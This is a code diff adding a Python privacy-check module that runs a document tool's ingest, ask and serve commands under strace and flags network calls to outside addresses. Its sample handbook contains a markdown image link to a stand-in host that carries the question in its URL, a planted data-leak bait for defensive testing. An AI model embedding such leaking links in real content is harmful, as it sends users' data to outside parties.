@@ -1,0 +1,115 @@
+"""The whole job of this product, done in an observed process: ingest, ask, serve a page."""
+
+import json
+import re
+import shutil
+import subprocess
+import sys
+import urllib.request
+from collections.abc import Sequence
+from dataclasses import dataclass
+from pathlib import Path
+
+from app.privacy.allowed import Allowed
+
+_SAMPLE = """# Handbook of the privacy check
+
+## Leave
+
+Full-time employees have 28 working days of annual leave in each calendar year.
+
+![leave](http://outside.example/leak?question=leave)
+"""
+_QUESTION = "How many days of annual leave do full-time employees have?"
+_CALL = re.compile(r"\b(connect|sendto|sendmsg|sendmmsg)\(.*?sa_family=(AF_\w+)(.*)")
+_PLACE = re.compile(r'inet_addr\("([^"]+)"\)|inet_pton\(AF_INET6, "([^"]+)"')
+_STEP_SECONDS = 300
+
+
+@dataclass(frozen=True, slots=True)
+class Step:
+    """One command; `foreign` lists the addresses beyond this machine that it turned to."""
+
+    name: str
+    done: bool
+    foreign: tuple[str, ...]
+    calls: int  # network calls to an address that strace saw; 0 without strace
+    said: str = ""
+
+
+def do_job(home: Path, flags: Sequence[str], *, trace: bool) -> list[Step]:
+    """Ingest a document of our own into `home`, ask about it, and serve the page."""
+    samples = home.parent / "samples"
+    samples.mkdir()
+    (samples / "handbook.md").write_text(_SAMPLE, "utf-8")
+    ours = [sys.executable, "-m", "app.cli", "--home", str(home)]
+    return [
+        _step("ingest", [*ours, "ingest", str(samples)], home, trace),
+        _step("ask", [*ours, "ask", _QUESTION, "--json"], home, trace),
+        _step("serve", [*ours, "serve", "--port", "0"], home, trace, page=True),
+    ]
+
+
+def _step(name: str, command: list[str], home: Path, trace: bool, page: bool = False) -> Step:
+    log = home.parent / f"{name}.strace"
+    if trace:
+        command = ["strace", "-f", "-qq", "-s", "0", "-e", "trace=network", "-o", str(log),
+                   *command]  # fmt: skip
+    done, said = _serve(command) if page else _run(command)
+    text = log.read_text("utf-8", "replace") if trace and log.exists() else ""
+    calls, foreign = foreign_calls(text)
+    return Step(name, done, tuple(foreign), calls, said)
+
+
+def _run(command: list[str]) -> tuple[bool, str]:
+    done = subprocess.run(
+        command, capture_output=True, text=True, timeout=_STEP_SECONDS, check=False
+    )
+    if done.returncode:
+        return False, (done.stderr.strip().splitlines() or ["no message"])[-1]
+    if "ask" in command:
+        return bool(json.loads(done.stdout)["found"]), ""
+    return True, ""
+
+
+def _serve(command: list[str]) -> tuple[bool, str]:
+    server = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    assert server.stdout is not None
+    try:
+        for line in server.stdout:
+            if (found := re.search(r"http://\S+", line)) is not None:
+                page = urllib.request.urlopen(found[0], timeout=60).read()
+                return b"Strongroom" in page, ""
+        return False, "the page did not come up"
+    finally:
+        _end_tree(server)
+
+
+def _end_tree(process: "subprocess.Popen[str]") -> None:
+    """End what strace follows too: it passes a signal on to nobody."""
+    children = Path(f"/proc/{process.pid}/task/{process.pid}/children")
+    if shutil.which("strace") and children.exists():
+        for child in children.read_text().split():
+            subprocess.run(["kill", child], check=False)
+    process.terminate()
+    try:
+        process.communicate(timeout=30)
+    except subprocess.TimeoutExpired:
+        process.kill()
+        process.communicate()
+
+
+def foreign_calls(trace: str) -> tuple[int, list[str]]:
+    """Calls with an address in the words of strace, and the addresses beyond this machine."""
+    own, calls, foreign = Allowed(), 0, dict[str, None]()
+    for line in trace.splitlines():
+        if (call := _CALL.search(line)) is None:
+            continue
+        if call[2] in ("AF_UNIX", "AF_NETLINK", "AF_UNSPEC"):
+            continue
+        calls += 1
+        place = _PLACE.search(call[3])
+        address = (place[1] or place[2]) if place else call[2]
+        if not own.may_connect(address, 0):
+            foreign[address] = None
+    return calls, list(foreign)
